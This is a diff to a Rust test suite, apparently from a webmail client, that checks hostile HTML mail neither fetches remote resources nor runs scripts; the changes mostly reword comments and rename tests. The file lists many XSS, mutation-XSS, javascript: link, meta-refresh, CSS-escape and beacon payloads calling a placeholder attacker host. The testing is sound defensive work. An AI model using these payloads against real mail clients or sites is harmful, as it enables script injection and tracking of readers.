@@ -1,5 +1,5 @@
-//! Mail that attacks whoever reads it. Every name outside this machine leads to a server that notes
-//! each connection, Chromium logs each name that it looks up, and scripts would report that they ran.
+//! Mail that attacks its reader. Every external name resolves to a server that records each
+//! connection, Chromium logs each name lookup, and scripts report that they ran.
 
 mod files;
 mod links;
@@ -13,12 +13,12 @@ use smtp2go_sdk::{Client, Email};
 
 use crate::support::{Browser, eventually, run, sandbox};
 
-/// What a script would do if it ran: ask for something outside, tell the page around it, and leave
-/// a window. `EVIL` becomes an address outside, a different one each time.
+/// A script that requests an external address, notifies the enclosing page, and opens a window.
+/// `EVIL` becomes an external address, different each time.
 const SCRIPT: &str =
     "new Image().src='EVIL/script';parent.postMessage('ran','*');open('EVIL/open')";
 
-/// Pieces of HTML. `EVIL` is an address outside, `HOST` the name in it, and `SCRIPT` the script above.
+/// Snippets of HTML. `EVIL` is an external address, `HOST` its name, and `SCRIPT` the script above.
 const PIECES: &[&str] = &[
     // Scripts.
     "<script>SCRIPT</script>",
@@ -34,8 +34,8 @@ const PIECES: &[&str] = &[
     "<script type=webbundle>{\"source\":\"EVIL/bundle\",\"resources\":[\"EVIL/b\"]}</script>",
     "<template shadowrootmode=open><script>SCRIPT</script><img src=EVIL/shadow></template>",
     "<xmp><script></xmp><img src=x onerror=\"SCRIPT\">",
-    // Mutation XSS: HTML that a parser reads in another way after it was written out, or than a filter
-    // reads it.
+    // Mutation XSS: HTML that a parser reads differently after serialisation, or differently than a
+    // filter.
     "<svg></p><style><a id=\"</style><img src=EVIL/m onerror=SCRIPT>\">",
     "<math><mtext></p><style><!--</style><img title=\"--><img src=EVIL/m onerror=SCRIPT>\">",
     "<form><math><mtext></form><form><mglyph><style></math><img src=EVIL/m onerror=\"SCRIPT\">",
@@ -92,7 +92,7 @@ const PIECES: &[&str] = &[
     "<style>@keyframes k{from{color:red}}</style><p style='animation:k 1s' onanimationstart=\"SCRIPT\">x",
     "<a id=x tabindex=1 onfocus=\"SCRIPT\" autofocus>x</a>",
     "<div popover id=p onbeforetoggle=\"SCRIPT\">x</div><button popovertarget=p>x</button>",
-    // Links that are scripts.
+    // Script links.
     "<a href=\"javascript:SCRIPT\">x</a>",
     "<a target=_blank href=\"JaVaScRiPt:SCRIPT\">x</a>",
     "<a target=_top href=\" &#106;avascript:SCRIPT\">x</a>",
@@ -138,7 +138,7 @@ const PIECES: &[&str] = &[
     "<input type=file><input list=l><datalist id=l><option label=x value=EVIL/l></datalist><input type=color autofocus>",
     "<permission type='camera microphone geolocation'></permission><geolocation autolocate></geolocation><usermedia></usermedia><install installurl=EVIL/app></install>",
     "<button commandfor=d command=show-modal>x</button><dialog id=d><img src=EVIL/dialog></dialog>",
-    // Going elsewhere by itself.
+    // Automatic navigation.
     "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
     "<meta http-equiv=refresh content='0;url=javascript:SCRIPT'>",
     "<meta http-equiv=refresh content='0;url=?remote=1'><img src=EVIL/after-refresh>",
@@ -157,7 +157,7 @@ const PIECES: &[&str] = &[
     "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on><a href=EVIL>x-not-clicked</a>",
     "<base href='EVIL/'><img src=relative>",
     "<base target=_top><base href=//evil.example><link rel=stylesheet href=a.css>",
-    // Hints.
+    // Resource hints.
     "<link rel=preconnect href=EVIL>",
     "<link rel=dns-prefetch href=EVIL>",
     "<link rel=prefetch href=EVIL/prefetch>",
@@ -185,7 +185,7 @@ const PIECES: &[&str] = &[
     "<!--><link rel=preconnect href=EVIL>--><!-- --!><link rel=preconnect href=EVIL><svg><![CDATA[]]><desc><link rel=preconnect href=EVIL>",
     "<a rel='prefetch preconnect' href=EVIL/a>x-not-clicked</a><area rel=preconnect href=EVIL/b><form rel=preconnect action=EVIL/c></form>",
     "<template shadowrootmode=open><link rel=preconnect href=EVIL></template>",
-    // Pictures and other things from outside.
+    // External images and other resources.
     "<img src=EVIL/img>",
     "<img src=//evil.example/img>",
     "<img srcset='EVIL/1 1x, EVIL/2 2x'>",
@@ -263,7 +263,7 @@ const PIECES: &[&str] = &[
     "<?xml-stylesheet type='text/xsl' href='EVIL/x.xsl'?><xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:include href='EVIL/inc.xsl'/></xsl:stylesheet><xi:include href=EVIL/xi />",
     "<math altimg=EVIL/alt definitionURL=EVIL/def><mglyph src=EVIL/glyph></mglyph><mtext background=EVIL/b mathbackground=url(EVIL/m)>x</mtext></math>",
     "<math><mrow href=EVIL/row target=_self><mtext>x</mtext></mrow><semantics><annotation src=EVIL/ann></annotation><annotation-xml src=EVIL/xml></annotation-xml></semantics></math>",
-    // Styles that give something away.
+    // Styles that leak.
     "<style>@\\69mport 'EVIL/a.css';</style><style>@i\\mport url(EVIL/b.css);</style><style>\\@import 'EVIL/c.css';</style>",
     "<p style='background:\\75rl(EVIL/a);list-style:u\\72 l(EVIL/b);cursor:url(\\68ttp://HOST/c),auto'>x",
     "<p style=\"background:url('\\68\\74\\74\\70://HOST/a');border-image:url(\\0068ttp:\\2f\\2fHOST/b)\">x",
@@ -294,7 +294,7 @@ const PIECES: &[&str] = &[
     "<style>html:has(body){border-image:url(EVIL/has)} ::selection{background:url(EVIL/sel)}</style>",
     "<style>@namespace url(EVIL/ns); @media print{body{background:url(EVIL/print)}} p{mask:url(EVIL/mask);filter:url(EVIL/filter#a);clip-path:url(EVIL/clip#a);shape-outside:url(EVIL/shape)}</style><p>x",
     "<p style='behavior:url(EVIL/b);-moz-binding:url(EVIL/m);width:expression(SCRIPT)'>x",
-    // What is not right.
+    // Invalid markup.
     "\u{0}<scr\u{0}ipt>SCRIPT</scr\u{0}ipt>",
     "<img src=x onerror=\u{ff1c}SCRIPT>\u{202e}\u{feff}\u{fffe}",
     "<<<<img<img src='EVIL/x'onerror='SCRIPT'>",
@@ -312,7 +312,7 @@ fn fill(piece: &str, number: usize) -> String {
         .replace("HOST", &host)
 }
 
-/// Attributes that take an address, or did once.
+/// Attributes that have or had addresses as values.
 const ATTRIBUTES: &str = "href src action formaction data poster background cite longdesc usemap \
     codebase classid archive profile manifest icon lowsrc dynsrc xlink:href srcdoc srcset imagesrcset \
     ping content style to from values by begin code object value attributionsrc xml:base target \
@@ -338,7 +338,7 @@ const EVENTS: &str = "abort afterprint animationend animationiteration animation
     transitionend transitionrun transitionstart unload validationstatuschange volumechange waiting \
     webkitanimationstart wheel";
 
-/// Mail in which every attribute of every element is an attack.
+/// Returns mails in which every attribute of every element is an attack.
 fn everywhere() -> Vec<String> {
     let all = |attributes: &str, prefix: &str, value: &str, text: &str| {
         let mut html = String::new();
@@ -362,7 +362,7 @@ fn everywhere() -> Vec<String> {
         ),
         all(ATTRIBUTES, "", "url(EVIL/everywhere)", "x"),
         all(EVENTS, "on", "SCRIPT", "x"),
-        // More than the depth at which a parser flattens the tree.
+        // Deeper than the depth at which a parser flattens the tree.
         format!(
             "{}<table><svg><title><style><img src=EVIL/deep onerror=\"SCRIPT\">",
             "<div>".repeat(600)
@@ -375,7 +375,7 @@ fn everywhere() -> Vec<String> {
     ]
 }
 
-/// A browser in which every page keeps what frames tell it.
+/// Returns a browser in which every page records messages from frames.
 async fn listening() -> Browser {
     let browser = Browser::open().await;
     let listen = "window.heard = []; addEventListener('message', event => heard.push(event.data))";
@@ -387,13 +387,13 @@ async fn listening() -> Browser {
 }
 
 #[test]
-fn hostile_html_does_nothing() {
+fn hostile_html_requests_and_runs_nothing() {
     run(async {
         let (sandbox, client) = sandbox().await;
         let browser = listening().await;
         for (number, piece) in PIECES.iter().enumerate() {
             let html = fill(piece, number);
-            // In what the page itself shows too.
+            // In the texts of the page itself too.
             let subject: String = html.chars().filter(|one| !one.is_control()).collect();
             let sender = format!("\"{}\" <a@example.com>", name(&html));
             let mail = Email::new(sender, subject)
@@ -408,7 +408,7 @@ fn hostile_html_does_nothing() {
 }
 
 #[test]
-fn hostile_attribute_of_any_element_does_nothing() {
+fn hostile_attribute_requests_and_runs_nothing() {
     run(async {
         let (sandbox, client) = sandbox().await;
         let browser = listening().await;
@@ -457,7 +457,7 @@ fn remote_content_is_fetched_on_request_and_scripts_stay_off() {
     });
 }
 
-/// A name that a header of JSON takes.
+/// Returns a name that JSON and a header can contain.
 fn name(html: &str) -> String {
     html.chars()
         .filter(|one| !one.is_control() && !"\"\\<>,;@".contains(*one))
@@ -482,8 +482,8 @@ async fn look_at_id(browser: &Browser, sandbox: &Sandbox, id: &str, what: &str) 
     nothing_happened(browser, what).await;
 }
 
-/// Clicks on what can be clicked in the frame of the mail that is open, but for links to the outside
-/// that say `x-not-clicked`. Nothing may be asked for or run, and the page stays.
+/// Clicks on everything clickable in the frame of the open mail, except external links with the
+/// text `x-not-clicked`. Asserts that nothing is requested or run, and that the page stays.
 async fn click_on_everything(browser: &Browser, sandbox: &Sandbox, what: &str) {
     let page = browser.window.current_url().await.unwrap();
     let before = browser.window.windows().await.unwrap().len();
@@ -503,7 +503,7 @@ async fn click_on_everything(browser: &Browser, sandbox: &Sandbox, what: &str) {
     }
     browser.window.enter_parent_frame().await.unwrap();
     nothing_asked_or_run(browser, what).await;
-    // Windows that opened are empty, and closed again.
+    // Opened windows must be empty; they are closed again.
     let windows = browser.window.windows().await.unwrap();
     if windows.len() > before {
         let own = browser.window.window().await.unwrap();
@@ -520,23 +520,23 @@ async fn click_on_everything(browser: &Browser, sandbox: &Sandbox, what: &str) {
         browser.window.switch_to_window(own).await.unwrap();
     }
     let address = browser.window.current_url().await.unwrap();
-    assert_eq!(address, page, "{what} went elsewhere");
+    assert_eq!(address, page, "{what} left the page");
 }
 
-/// Not even a connection.
+/// Asserts that nothing was connected to, requested or run.
 async fn nothing_happened(browser: &Browser, what: &str) {
     let connections = browser.outside.connections();
     let seen = browser.outside.seen();
-    assert_eq!(connections, 0, "{what} asked for {seen:?}");
+    assert_eq!(connections, 0, "{what} requested {seen:?}");
     nothing_asked_or_run(browser, what).await;
 }
 
-/// No request. Chromium connects as soon as the mouse is pressed on a link to the outside, whether or
-/// not it may follow it.
+/// Asserts that nothing was requested or run. Connections are allowed: Chromium connects when the
+/// mouse is pressed on an external link, even if it may not follow it.
 async fn nothing_asked_or_run(browser: &Browser, what: &str) {
     let mut seen = browser.outside.seen();
     seen.retain(|head| !head.is_empty());
-    assert!(seen.is_empty(), "{what} asked for {seen:?}");
+    assert!(seen.is_empty(), "{what} requested {seen:?}");
     let heard = browser.run("return window.heard ?? []").await;
     assert_eq!(heard, json!([]), "{what} ran");
 }
